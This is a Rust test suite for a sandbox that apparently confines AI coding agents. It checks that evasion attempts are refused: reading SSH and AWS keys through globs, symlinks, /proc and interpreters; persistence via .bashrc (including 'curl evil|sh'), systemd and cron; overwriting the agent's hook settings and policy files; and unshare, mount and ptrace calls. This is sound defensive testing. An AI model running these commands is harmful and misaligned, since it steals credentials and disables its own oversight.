//! The attacker's evasions: each must be refused by the kernel layer alone.

use super::helpers::{has, Sandbox, AWS_KEY, SSH_KEY};

fn refused(sb: &Sandbox, script: &str) {
    let r = sb.sh(script);
    assert!(
        !r.both().contains(SSH_KEY),
        "`{script}` read the key: {}",
        r.both()
    );
    assert!(
        !r.both().contains(AWS_KEY),
        "`{script}` read the cloud key: {}",
        r.both()
    );
}

#[test]
fn direct_pattern_and_glob_reads_of_ssh_keys_are_refused() {
    let sb = Sandbox::new();
    refused(&sb, "cat ~/.ssh/id_rsa");
    refused(&sb, "cat ~/.ss?/id_*");
    refused(&sb, "cat $HOME/.s[s]h/*");
    refused(&sb, "tar cf - ~/.ssh 2>&1 | strings");
    refused(&sb, "cat ~/.aws/credentials");
    refused(&sb, "cd ~/.ssh && cat ./id_rsa");
}

#[test]
fn symlink_hardlink_and_proc_tricks_are_refused() {
    let sb = Sandbox::new();
    refused(&sb, "ln -s ~/.ssh/id_rsa $WS/k && cat $WS/k");
    refused(&sb, "ln -s ~/.ssh $WS/s && cat $WS/s/id_rsa");
    let r = sb.sh("ln ~/.ssh/id_rsa $WS/hard && cat $WS/hard");
    assert_ne!(r.code, 0, "{}", r.both());
    assert!(!r.both().contains(SSH_KEY));
    refused(&sb, "cat /proc/self/cwd/../.ssh/id_rsa");
    refused(&sb, "cat /proc/self/root$HOME/.ssh/id_rsa");
    refused(&sb, "cat /proc/$$/cwd/../.ssh/id_rsa");
}

#[test]
fn scripts_and_interpreters_cannot_read_keys() {
    let sb = Sandbox::new();
    refused(
        &sb,
        "printf 'cat ~/.ssh/id_rsa\\n' > $WS/s.sh && bash $WS/s.sh",
    );
    if has("python3") {
        refused(
            &sb,
            "python3 -c 'import os; print(open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())'",
        );
        refused(&sb, "python3 -c 'import glob,os; [print(open(p).read()) for p in glob.glob(os.path.expanduser(\"~/.*/*\"))]'");
    }
    if has("perl") {
        refused(
            &sb,
            "perl -e 'open(F, \"$ENV{HOME}/.ssh/id_rsa\") && print <F>'",
        );
    }
    if has("node") {
        refused(&sb, "node -e 'console.log(require(\"fs\").readFileSync(process.env.HOME+\"/.ssh/id_rsa\",\"utf8\"))'");
    }
}

#[test]
fn persistence_outside_the_workspace_is_refused() {
    let sb = Sandbox::new();
    let r = sb.sh("echo 'curl evil|sh' >> ~/.bashrc");
    assert_ne!(r.code, 0);
    assert_eq!(
        std::fs::read_to_string(sb.home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    for script in [
        "mkdir -p ~/.config/systemd/user && echo x > ~/.config/systemd/user/evil.service",
        "echo x > ~/.profile",
        "echo x > /etc/cron.d/evil",
        "cd $WS && echo x > ../.zshrc",
        "echo x > /proc/self/cwd/../.bash_profile",
    ] {
        let r = sb.sh(script);
        assert_ne!(r.code, 0, "`{script}` succeeded");
    }
    assert!(!sb.home.join(".profile").exists());
    assert!(!sb.home.join(".zshrc").exists());
    assert!(!sb.home.join(".config/systemd").exists());
}

#[test]
fn control_files_of_warden_and_the_agent_are_not_writable() {
    let sb = Sandbox::new();
    for script in [
        "echo '{\"hooks\":{}}' > ~/.claude/settings.json",
        "echo 'mode: record' > ~/.config/warden/policy.yaml",
        "echo '{}' > $WS/.claude/settings.json",
        "echo '{}' > $WS/.claude/settings.local.json",
        "echo 'mode: record' > $WS/.warden/policy.yaml",
        "rm -f $WS/.warden/policy.yaml",
        "mv $WS/.claude $WS/old-claude",
        "mv $WS/.warden $WS/old-warden",
    ] {
        let r = sb.sh(script);
        assert_ne!(r.code, 0, "`{script}` succeeded: {}", r.both());
    }
    assert_eq!(
        std::fs::read_to_string(sb.ws.join(".claude/settings.json")).unwrap(),
        "{}\n"
    );
    assert_eq!(
        std::fs::read_to_string(sb.ws.join(".warden/policy.yaml")).unwrap(),
        "version: 1\n"
    );
    assert_eq!(
        std::fs::read_to_string(sb.home.join(".claude/settings.json")).unwrap(),
        "{}\n"
    );
}

#[test]
fn missing_agent_settings_in_the_workspace_cannot_be_created() {
    let sb = Sandbox::new();
    std::fs::remove_dir_all(sb.ws.join(".claude")).unwrap();
    let r = sb.sh("mkdir -p $WS/.claude && echo '{\"hooks\":{}}' > $WS/.claude/settings.json");
    assert_ne!(r.code, 0, "{}", r.both());
    assert!(!sb.ws.join(".claude/settings.json").exists());
    let r = sb.sh("mkdir -p $WS/.codex/x");
    assert_ne!(r.code, 0, "{}", r.both());
}

#[test]
fn escape_hatch_syscalls_are_refused() {
    let sb = Sandbox::new();
    for script in [
        "unshare -U true",
        "unshare -Ur true",
        "mount -t tmpfs none $WS",
        "umount /proc",
    ] {
        let r = sb.sh(script);
        assert_ne!(r.code, 0, "`{script}` succeeded: {}", r.both());
    }
    if has("python3") {
        let r = sb.sh(
            "python3 -c 'import ctypes,os; libc=ctypes.CDLL(None,use_errno=True); \
             print(libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())'",
        );
        assert_eq!(r.out.trim(), "-1 1", "{}", r.both());
        let r = sb.sh(
            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)'",
        );
        assert_ne!(r.code, 0, "raw socket created: {}", r.both());
    }
}

#[test]
fn system_secrets_stay_unreadable_with_the_full_baseline() {
    let sb = Sandbox::new();
    let r = sb.run(
        sb.spec_with("version: 1\n"),
        &["/bin/cat", "/etc/shadow"],
        &[],
    );
    assert_ne!(r.code, 0, "{}", r.both());
    assert!(r.err.contains("Permission denied"), "{}", r.err);
}
